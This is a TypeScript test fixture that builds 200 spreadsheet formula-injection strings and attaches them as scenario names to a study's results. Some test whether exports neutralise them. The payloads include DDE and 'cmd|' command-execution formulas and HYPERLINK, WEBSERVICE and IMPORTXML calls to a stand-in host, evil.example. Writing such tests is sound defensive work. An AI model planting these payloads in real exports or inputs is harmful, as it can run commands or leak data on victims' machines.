import { playedOf, type Played } from '../../src/results/played.ts';
import { resolve, resolveComparison } from '../../src/study/resolve.ts';
import type { Study } from '../../src/study/study.ts';
import { play, shippedStudy } from './played.ts';

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', ' =', '\t=', '\n=', '　=', '\u00a0=', '"=', "'="];
const formulas = [
  '1+1',
  'cmd|"/c calc"!A0',
  'HYPERLINK("http://evil.example","x")',
  'WEBSERVICE("http://evil.example")',
  'SUM(A1:A9)',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  'A1',
  '2',
  '1e9',
  "'x'!A1",
  '@SUM(1)',
  '-1+1',
  ',"=1+1',
];

/** 200 names that a spreadsheet might run, as many as formulas and ways to begin them give. */
export const hostileNames: readonly string[] = starts
  .flatMap((start) => formulas.map((formula) => `${start}${formula}`))
  .slice(0, 200);

/** Runs of which every scenario bears one of these names: the base, played once, under many names. */
export async function hostilePlays(): Promise<Played[]> {
  const base = await play({ ...shippedStudy('six-rows'), scenarios: {} }, 50, false);
  const [all] = base.result.columns;
  // A few outcomes are enough for the names.
  const keys = all!.keys.slice(0, 4);
  const columns = { ...all!, keys, values: all!.values.slice(0, keys.length * all!.count) };
  return [hostileNames.slice(0, 100), hostileNames.slice(100)].map((names) => {
    const entries = names.map((name, i) => [`hostile${i}`, { name: { zh: name, en: name } }] as const);
    const study: Study = { ...base.study, name: names[0]!, scenarios: Object.fromEntries(entries) };
    const scenarios = resolve(study);
    const result = { ...base.result, columns: scenarios.map(({ id }) => ({ ...columns, scenario: id })) };
    return playedOf({ study, comparison: resolveComparison(study), scenarios, regional: false }, result);
  });
}
